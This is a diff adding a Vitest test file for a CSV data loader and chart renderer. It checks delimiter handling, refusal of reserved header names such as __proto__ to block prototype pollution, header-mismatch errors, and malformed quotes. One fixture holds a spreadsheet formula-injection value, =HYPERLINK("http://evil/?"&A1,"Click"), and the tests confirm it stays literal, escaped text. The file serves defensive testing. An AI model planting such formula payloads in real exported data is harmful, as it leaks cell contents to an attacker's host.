@@ -1,0 +1,124 @@
+/**
+ * CHECKLIST section A (CSV data): the sub-cases the audit found implemented but
+ * untested. Each test reads a fixture project from `tests/fixtures/checklist/`
+ * and asserts the exact problems, or the exact rows when the file is valid.
+ */
+import { join, resolve } from 'node:path';
+import rehypeStringify from 'rehype-stringify';
+import remarkParse from 'remark-parse';
+import remarkRehype from 'remark-rehype';
+import { unified } from 'unified';
+import { VFile } from 'vfile';
+import { describe, expect, it } from 'vitest';
+import { checkProject } from '../../src/lib/check/check-project.ts';
+import { clearDatasetCache, readDataset } from '../../src/lib/data/load-dataset.ts';
+import { formatProblems } from '../../src/lib/errors.ts';
+import { trendbookRemarkPlugins } from '../../src/plugins/remark/index.ts';
+import { SITE } from '../../src/site.config.ts';
+
+const FIXTURES = resolve(import.meta.dirname, '../fixtures/checklist');
+
+/** Reads `data/input.csv` of a fixture folder. */
+function readInput(folder: string) {
+  clearDatasetCache();
+  return readDataset(join(FIXTURES, folder), 'input');
+}
+
+describe('A4: semicolon files from European Excel', () => {
+  it('A4: reads a file whose sidecar declares delimiter ";" with decimal commas, and keeps a quoted ";" in one cell', () => {
+    const { dataset, problems } = readInput('a4-sidecar-declares-semicolon-delimiter');
+    expect(problems).toEqual([]);
+    expect(dataset!.columns.map((column) => [column.name, column.type, column.decimals])).toEqual([
+      ['year', 'year', 0],
+      ['tier', 'category', 0],
+      ['engagement_rate', 'percent', 2],
+      ['label', 'category', 0],
+    ]);
+    expect(dataset!.rows).toEqual([
+      { year: 2016, tier: 'micro', engagement_rate: 2.4, label: 'a;b' },
+      { year: 2017, tier: 'micro', engagement_rate: 1.75, label: 'c' },
+    ]);
+    expect(dataset!.info).toEqual([{ line: 2 }, { line: 3 }]);
+  });
+
+  it('A4: reads a sep=; file with a single data row, never taking "sep=;" for the header', () => {
+    const { dataset, problems } = readInput('a4-sep-line-and-a-single-data-row');
+    expect(problems).toEqual([]);
+    expect(dataset!.columns.map((column) => column.name)).toEqual(['year', 'tier', 'cost']);
+    expect(dataset!.rows).toEqual([{ year: 2016, tier: 'micro', cost: 1234.5 }]);
+    // The sep= line is line 1, the header line 2, so the only row is on line 3.
+    expect(dataset!.info).toEqual([{ line: 3 }]);
+  });
+});
+
+describe('A6: reserved header names', () => {
+  it('A6: valueOf and hasOwnProperty headers are refused like __proto__, and Object.prototype stays clean', () => {
+    const { dataset, problems } = readInput('a6-reserved-headers-valueof-and-hasownproperty');
+    expect(formatProblems(problems)).toBe(
+      [
+        'data/input.csv:1:6: column 2 is named "valueOf", which is reserved. Expected a name other than __proto__, constructor, prototype, toString, valueOf or hasOwnProperty, received "valueOf". Rename the column, for example to a more specific snake_case name.',
+        'data/input.csv:1:14: column 3 is named "hasOwnProperty", which is reserved. Expected a name other than __proto__, constructor, prototype, toString, valueOf or hasOwnProperty, received "hasOwnProperty". Rename the column, for example to a more specific snake_case name.',
+        '2 problems found.',
+      ].join('\n'),
+    );
+    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+    expect(Object.keys(Object.prototype)).toEqual([]);
+    expect(typeof ({} as { valueOf: unknown }).valueOf).toBe('function');
+    expect(Object.prototype.hasOwnProperty.call({ a: 1 }, 'a')).toBe(true);
+    // Lossless: both columns keep their values as own keys of prototype-less rows.
+    const rows = dataset!.rows;
+    expect(rows.map((row) => Object.getPrototypeOf(row))).toEqual([null, null]);
+    expect(rows.map((row) => [row['valueOf'], row['hasOwnProperty']])).toEqual([
+      [1, 2],
+      [3, 4],
+    ]);
+  });
+});
+
+describe('A7: a header that differs in case and spacing', () => {
+  it('A7: y="engagement_rate" against the header "Engagement Rate " fails at the directive with a did-you-mean', async () => {
+    const { problems } = await checkProject(join(FIXTURES, 'a7-header-with-capitals-and-trailing-space'), SITE);
+    expect(formatProblems(problems)).toBe(
+      [
+        'content/reports/q3.md:9:23: y="engagement_rate": data/eng.csv has no column "engagement_rate". Expected one of "year", "tier" or "Engagement Rate ", received "engagement_rate". Did you mean "Engagement Rate "?',
+        '1 problem found.',
+      ].join('\n'),
+    );
+  });
+});
+
+describe('A9: stray quotes', () => {
+  it('A9: "a "b"" ,c gives one problem on its line, not one per papaparse error', () => {
+    const { dataset, problems } = readInput('a9-malformed-quotes-in-one-row');
+    expect(formatProblems(problems)).toBe(
+      [
+        'data/input.csv:3:1: malformed quotes in this row (Trailing quote on quoted field is malformed). Expected a quoted cell to end with " right before the delimiter or line end, received "\\"a \\"b\\"\\" ,c". Quote the whole cell and double every quote inside it, for example "5"" screen".',
+        '1 problem found.',
+      ].join('\n'),
+    );
+    expect(dataset!.rows).toEqual([{ name: 'first', note: 'plain' }]);
+  });
+});
+
+describe('A12: formula text in a label column', () => {
+  const folder = 'a12-formula-text-in-a-label-column';
+
+  it('A12: keeps =HYPERLINK(…), @SUM(…), +1 and -2 as literal text, with no problem', () => {
+    const { dataset, problems } = readInput(folder);
+    expect(problems).toEqual([]);
+    expect(dataset!.columns.map((column) => [column.name, column.type])).toEqual([
+      ['label', 'category'],
+      ['value', 'number'],
+    ]);
+    expect(dataset!.rows.map((row) => row['label'])).toEqual(['=HYPERLINK("http://evil/?"&A1,"Click")', '@SUM(A1:A9)', '+1', '-2']);
+  });
+
+  it('A12: shows the formula labels as text in the chart table', async () => {
+    const root = join(FIXTURES, folder);
+    const file = new VFile({ value: '::chart{#labels dataset="input" x="label" y="value" type="bar" title="Labels"}\n', path: join(root, 'content/reports/q3.md') });
+    const html = String(await unified().use(remarkParse).use(trendbookRemarkPlugins({ root, config: SITE })).use(remarkRehype).use(rehypeStringify).process(file));
+    expect(/<tbody>.*<\/tbody>/s.exec(html)![0]).toBe(
+      '<tbody><tr><th scope="row">=HYPERLINK("http://evil/?"&#x26;A1,"Click")</th><td>1</td></tr><tr><th scope="row">@SUM(A1:A9)</th><td>2</td></tr><tr><th scope="row">+1</th><td>3</td></tr><tr><th scope="row">-2</th><td>4</td></tr></tbody>',
+    );
+  });
+});
